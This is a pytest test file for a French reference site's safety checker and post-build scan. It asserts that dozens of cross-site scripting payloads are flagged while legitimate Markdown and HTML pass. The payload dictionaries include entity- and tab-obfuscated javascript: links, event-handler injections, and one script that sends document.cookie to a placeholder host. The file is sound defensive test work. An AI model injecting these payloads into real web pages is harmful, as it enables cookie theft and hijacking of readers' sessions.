"""Hostile content: every vector of the corpus is rejected by the checker with its place,
legitimate Markdown and HTML are untouched, and the post-build scan rejects what a
checker gap would let through while accepting the site's own scripts."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from outils import buildable, run_cli
from referentiel.checks.safety import hostile
from referentiel.publish.scan import KnownScripts, scan

# Each vector can run code (or load a page or script) in a reader's browser once rendered.
VECTORS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script-casse-mixte": "<ScRiPt>alert(1)</sCrIpT>",
    "script-externe": "<SCRIPT SRC=//exemple.invalid/x.js></SCRIPT>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "onerror-colle-au-guillemet": '<img src="x"onerror="alert(1)">',
    "svg-onload-barre": "<svg/onload=alert(1)>",
    "body-onload": "<body onload=alert(1)>",
    "onclick-majuscules": '<a href="#" OnClick="alert(1)">x</a>',
    "attribut-sur-deux-lignes": '<div\nonmouseover="alert(1)">x</div>',
    "details-ontoggle": "<details open ontoggle=alert(1)>",
    "iframe": '<iframe src="https://exemple.invalid/"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    "object": '<object data="x.swf"></object>',
    "embed": '<embed src="x.swf">',
    "form-action": '<form action="javascript:alert(1)"><button>OK</button></form>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base": '<base href="javascript:alert(1)//">',
    "link-import": "<link rel=import href=x>",
    "style": "<style>@import 'x';</style>",
    "math-xlink": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "lien-markdown-javascript": "[clic](javascript:alert(1))",
    "lien-markdown-casse-mixte": "[clic](JaVaScRiPt:alert(1))",
    "lien-espace-initial": "[clic]( javascript:alert(1))",
    "entite-decimale": "[clic](j&#97;vascript:alert(1))",
    "entite-hexadecimale": "[clic](&#x6A;avascript:alert(1))",
    "entites-partout": "[clic](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "entite-sans-point-virgule": "[clic](&#0000106avascript:alert(1))",
    "deux-points-nomme": '<a href="javascript&colon;alert(1)">x</a>',
    "tabulation-dans-le-schema": '<a href="java\tscript:alert(1)">x</a>',
    "tabulation-en-entite": '<a href="java&#x09;script:alert(1)">x</a>',
    "retour-chariot-en-entite": '<a href="jav&#13;ascript:alert(1)">x</a>',
    "saut-de-ligne-nomme": '<a href="jav&NewLine;ascript:alert(1)">x</a>',
    "href-blanc-initial": '<a href=" javascript:alert(1)">x</a>',
    "definition-de-reference": "[x]: javascript:alert(1)",
    "lien-automatique": "<javascript:alert(1)>",
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data-markdown": "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data-majuscules": '<a href="DATA:text/html,x">x</a>',
    "data-image-markdown": "![i](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "data-reference": "[x]: data:text/html,x",
    "data-entite": '<a href="&#x64;ata:text/html,x">x</a>',
    "data-entite-milieu": '<a href="d&#x61;ta:text/html,x">x</a>',
    "attr-list-titre": '## Titre {: onclick="alert(1)" }',
    "attr-list-lien": '[lien](https://exemple.fr){: onmouseover="alert(1)" }',
    "attr-list-href": '[lien](#a){: href="javascript:alert(1)" }',
}

# Legitimate content the référentiel uses: never flagged.
LEGITIMES: dict[str, str] = {
    "admonition": '!!! note "Attention"\n    Le secret professionnel s\'applique : voir ci-dessous.',
    "tableau": "| Champ | Dispositif |\n|---|---|\n| Logement | FSL |",
    "ancre-de-titre": "## Accès aux droits {#acces-aux-droits}",
    "classe-attr-list": "Paragraphe.\n{: .ref-note }",
    "abbr": '<abbr title="Fonds de solidarité pour le logement">FSL</abbr>',
    "span-id": '<span id="ancre-1"></span>',
    "table-html": "<table><thead><tr><th>A</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>",
    "md-in-html": '<div class="ref-encadre" markdown="1">\n**Important** : texte.\n</div>',
    "lien-legifrance": "[Loi n° 2007-293](https://www.legifrance.gouv.fr/loda/id/JORFTEXT000000823100)",
    "lien-automatique-https": "<https://www.service-public.fr/particuliers/vosdroits/F1257>",
    "ancre-locale": "Voir [la procédure](#etapes) et [le glossaire](../glossaire/index.md#fsl).",
    "javascript-en-prose": "Le site fonctionne sans JavaScript : les filtres sont un plus.",
    "data-en-prose": "Les données : date, lieu, motif (voir les data de la CAF).",
    "deux-points-francais": "Article L. 226-2-1 du CASF : « … » ; note : à revoir.",
    "inferieur-en-prose": "Enfants de moins de 3 ans (< 3 ans) et plus de 6 ans (> 6 ans).",
    "entites-typographiques": "Coût &lt; 100 &euro; &amp; délai &nbsp;: 2 mois.",
    "on-en-prose": "Quand on = le service, on doit tracer la décision.",
}


@pytest.mark.parametrize("name", sorted(VECTORS))
def test_vecteur_rejete(name: str) -> None:
    found = list(hostile(VECTORS[name]))
    assert found, f"vecteur non détecté : {VECTORS[name]!r}"
    assert {code for _, code, _ in found} <= {"SEC001", "SEC002"}


@pytest.mark.parametrize("name", sorted(LEGITIMES))
def test_contenu_legitime_accepte(name: str) -> None:
    assert list(hostile(LEGITIMES[name])) == []


def test_position_dans_le_texte_brut_malgre_les_entites() -> None:
    text = "Voir [ce lien](j&#97;vascript:alert(1)) puis <img src=x onerror=y>."
    offsets = sorted((offset, code) for offset, code, _ in hostile(text))
    assert offsets == [(text.index("j&#97;"), "SEC002"), (text.index("onerror"), "SEC001")]


FICHE = "fiches/assistant-de-service-social.md"
TEXTE = "donnees/textes/code-penal-226-13.yml"


def _check(depot: Path) -> list[tuple[str, int, int, str]]:
    run = run_cli("--racine", str(depot), "check", "--format", "json")
    assert run.code == 1 and "Traceback" not in run.err
    return [
        (d["location"]["path"], d["location"]["line"], d["location"]["col"], d["code"])
        for d in json.loads(run.out)
        if d["code"].startswith("SEC")
    ]


def test_checker_localise_dans_le_corps_et_dans_le_yaml(depot: Path) -> None:
    fiche = depot / FICHE
    text = fiche.read_text(encoding="utf-8")
    body_start = text.index("\n---\n", 4) + 5
    first_body_line = text.count("\n", 0, body_start) + 1
    fiche.write_text(
        text[:body_start] + "Texte.\n\nSuite <img src=x\n  onerror=alert(1)>\n"
        "[a](&#x6A;avascript:x)\n" + text[body_start:],
        encoding="utf-8",
    )
    texte = depot / TEXTE
    texte.write_text(
        texte.read_text(encoding="utf-8").replace(
            'titre: "', 'titre: "<iframe src=x></iframe> ', 1
        ),
        encoding="utf-8",
    )
    titre_line = next(
        i
        for i, line in enumerate(texte.read_text(encoding="utf-8").splitlines(), 1)
        if line.startswith("titre:")
    )
    assert sorted(_check(depot)) == sorted(
        [
            (FICHE, first_body_line + 3, 3, "SEC001"),  # onerror, on the line after `<img`
            (FICHE, first_body_line + 4, 5, "SEC002"),  # the entity-obfuscated scheme
            (TEXTE, titre_line, 9, "SEC001"),  # the iframe inside the YAML value
        ]
    )


# --- post-build scan -----------------------------------------------------------------

MATERIAL_INLINE = (
    '__md_scope=new URL("..",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
    '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),'
    '__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}'
    "catch(e){}}"
)
PAGE = """<!doctype html><html lang="fr"><head>
<link rel="stylesheet" href="../assets/stylesheets/main.css">
<link rel="canonical" href="https://intranet.exemple.fr/fiches/">
</head><body>
<script>{inline}</script>
<script id="__config" type="application/json">{{"base": ".."}}</script>
<script src="../assets/javascripts/bundle.min.js"></script>
<p><abbr title="Fonds de solidarité pour le logement">FSL</abbr> <span id="a"></span>
<a href="https://www.legifrance.gouv.fr/">Légifrance</a></p>
{extra}
</body></html>
"""

SCAN_VECTORS = {
    "script-inconnu": "<script>fetch('//exemple.invalid/?'+document.cookie)</script>",
    "script-module": "<script type=module>import('//exemple.invalid/x.js')</script>",
    "script-hors-assets": '<script src="../fiches/x.js"></script>',
    "script-externe": '<script src="https://cdn.exemple.invalid/x.js"></script>',
    "onerror": "<img src=x onerror=alert(1)>",
    "href-entites": '<a href="&#x6A;avascript:alert(1)">x</a>',
    "href-tabulation": '<a href="java&#9;script:alert(1)">x</a>',
    "data": '<a href="data:text/html,x">x</a>',
    "iframe": '<iframe src="../x/"></iframe>',
    "object": '<object data="x"></object>',
    "base": '<base href="https://exemple.invalid/">',
    "meta-refresh": '<meta http-equiv="Refresh" content="0;url=https://exemple.invalid/">',
    "image-externe": '<img src="https://exemple.invalid/pixel.png" alt="">',
    "police-externe": '<link rel="preload stylesheet" href="//fonts.exemple.invalid/x.css">',
}


def _site(tmp_path: Path, extra: str) -> Path:
    site = tmp_path / "site"
    (site / "fiches").mkdir(parents=True)
    (site / "fiches" / "index.html").write_text(
        PAGE.format(inline=MATERIAL_INLINE, extra=extra), encoding="utf-8"
    )
    return site


def test_scan_accepte_les_scripts_du_site(tmp_path: Path) -> None:
    assert list(scan(_site(tmp_path, ""))) == []


@pytest.mark.parametrize("name", sorted(SCAN_VECTORS))
def test_scan_rejette(tmp_path: Path, name: str) -> None:
    diags = list(scan(_site(tmp_path, SCAN_VECTORS[name]), KnownScripts()))
    assert [(d.location.path, d.location.line, d.code) for d in diags] == [
        ("site/fiches/index.html", 10, "SEC003")
    ]


def test_scan_apres_construction_attrape_une_page_ecrite_a_la_main(
    depot: Path, tmp_path: Path
) -> None:
    """A hand-written page is not read by the checker: the scan of the built site is what
    stops it from being published (`make build` fails)."""
    from referentiel.site.mkdocs import build_site

    (depot / "docs" / "piege.md").write_text(
        "# Piège\n\n<p>Texte <img src=x onerror=alert(1)></p>\n", encoding="utf-8"
    )
    site = tmp_path / "site"
    build_site(buildable(depot), site)
    found = [(d.location.path, d.code) for d in scan(site)]
    assert found == [("site/piege/index.html", "SEC003")]
    assert run_cli("scan", str(site)).code == 1
